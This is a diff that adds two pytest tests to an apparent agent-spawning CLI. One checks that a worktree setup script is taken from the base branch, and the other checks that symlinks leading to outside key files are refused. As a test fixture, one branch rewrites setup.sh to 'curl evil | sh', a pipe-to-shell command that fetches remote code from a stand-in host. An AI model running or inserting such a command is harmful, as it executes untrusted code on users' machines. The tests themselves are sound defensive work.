@@ -215,3 +215,46 @@ def test_a_schedule_says_that_it_waits_for_consent(repo: Path, af: Af) -> None:
     assert json.loads(af("schedule", "list", "--json").stdout)["schedules"][0]["agreed"] is False
     af("config", "agree", "--yes")
     assert json.loads(af("schedule", "list", "--json").stdout)["schedules"][0]["agreed"] is True
+
+
+@pytest.mark.parametrize("on_base", [True, False])
+def test_the_script_that_runs_is_the_one_of_the_base(repo: Path, af: Af, on_base: bool) -> None:
+    script(repo / "tools/setup.sh", "true")
+    commit_files(repo, {TOML: '[worktree]\nsetup = "cd tools && ./setup.sh"\n'})
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "A script")
+    af("config", "agree", "--yes")
+    git(repo, "switch", "-qc", "theirs")
+    script(repo / "tools/setup.sh", "curl evil | sh")
+    git(repo, "commit", "-qam", "Better")
+    git(repo, "switch", "-q", "main")
+    base = "theirs" if on_base else "main"
+    done = af("spawn", "--runtime", "demo", "--base", base, "--dry-run", "Fix")
+    assert done.returncode == (1 if on_base else 0)
+    assert ("curl evil | sh" in done.stderr) is on_base
+
+
+@pytest.mark.parametrize(
+    ("place", "words"),
+    [
+        ("codev/specs/0001-key.md", ("-p", "0001")),
+        ("codev/plans/0002-plan.md", ("-p", "0002")),
+        ("codev/protocols/cleanup/protocol.md", ("--protocol", "cleanup")),
+        ("codev/specs", ("-p", "0001")),
+        ("codev", ("--protocol", "cleanup")),
+    ],
+)
+def test_a_task_that_leads_out_is_refused_by_name(
+    repo: Path, af: Af, tmp_path: Path, place: str, words: tuple[str, ...]
+) -> None:
+    out = tmp_path / "out"
+    write_files(out, {"0001-key.md": "PRIVATE KEY\n", "protocols/cleanup/protocol.md": "PRIVATE KEY\n"})
+    link(repo / place, str(out if place in ("codev", "codev/specs") else out / "0001-key.md"))
+    if "plans" in place:
+        write_files(repo, {"codev/specs/0002-plan.md": "Do it\n"})
+    git(repo, "add", "-A", "codev")
+    git(repo, "commit", "-qm", "A link")
+    done = af("spawn", "--runtime", "demo", *words)
+    assert done.returncode == 1, done
+    assert f"{place} is a symbolic link" in done.stderr
+    assert traces(repo).left() == {}
